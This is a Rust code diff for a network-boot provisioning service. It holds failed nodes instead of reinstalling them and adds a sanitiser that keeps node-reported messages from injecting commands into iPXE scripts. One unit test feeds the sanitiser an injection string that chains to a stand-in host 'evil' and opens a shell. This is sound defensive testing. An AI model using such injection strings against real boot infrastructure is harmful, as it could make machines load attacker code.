@@ -25,15 +25,38 @@ pub enum ScriptKind {
     Install,
     /// Boot the installed system from the local disk.
     LocalDisk,
+    /// Wait and ask again: a failed node is not reinstalled behind the operator's back
+    /// (a broken disk would otherwise be wiped and retried in a loop).
+    Hold,
 }
 
-/// Installed (or joined) nodes boot from disk; everything else, including a failed node and
-/// a node the operator asked to reinstall (its state goes back to `planned`), installs.
+/// Installed (or joined) nodes boot from disk; failed nodes are held until the operator
+/// asks for a reinstall (their state goes back to `planned`); everything else installs.
 pub fn script_kind(state: Option<NodeState>) -> ScriptKind {
     match state {
         Some(NodeState::Installed | NodeState::Joined) => ScriptKind::LocalDisk,
+        Some(NodeState::Failed) => ScriptKind::Hold,
         _ => ScriptKind::Install,
     }
+}
+
+/// How often a held (failed) machine asks for its script again: after `node reinstall` it
+/// installs within this time, without anyone at its console.
+pub const HOLD_RETRY_SECS: u32 = 60;
+
+/// A message made safe for an iPXE `echo` line: no `${}` expansion, no `||`/`&&` command
+/// chaining, no line breaks (a report's message comes from the node).
+pub fn ipxe_text(msg: &str) -> String {
+    msg.chars()
+        .take(200)
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || " .,:;/_=+@()-[]?!%*".contains(c) {
+                c
+            } else {
+                '_'
+            }
+        })
+        .collect()
 }
 
 /// A fresh token: what goes to the node, and the hash the store keeps.
@@ -142,13 +165,25 @@ mod tests {
     fn installed_nodes_boot_from_disk_until_reinstalled() {
         assert_eq!(script_kind(None), ScriptKind::Install);
         assert_eq!(script_kind(Some(NodeState::Pxe)), ScriptKind::Install);
-        assert_eq!(script_kind(Some(NodeState::Failed)), ScriptKind::Install);
+        assert_eq!(script_kind(Some(NodeState::Failed)), ScriptKind::Hold);
         assert_eq!(
             script_kind(Some(NodeState::Installed)),
             ScriptKind::LocalDisk
         );
         assert_eq!(script_kind(Some(NodeState::Joined)), ScriptKind::LocalDisk);
         assert_eq!(script_kind(Some(NodeState::Planned)), ScriptKind::Install);
+    }
+
+    #[test]
+    fn messages_cannot_inject_ipxe_commands() {
+        let m = ipxe_text("disk ${x} || chain http://evil/ && exit\nshell\r");
+        assert!(
+            !m.contains('$') && !m.contains('|') && !m.contains('&'),
+            "{m}"
+        );
+        assert!(!m.contains('\n') && !m.contains('\r'), "{m}");
+        assert!(m.starts_with("disk __x_ __ chain http://evil/ __"), "{m}");
+        assert_eq!(ipxe_text(&"x".repeat(500)).len(), 200);
     }
 
     #[test]
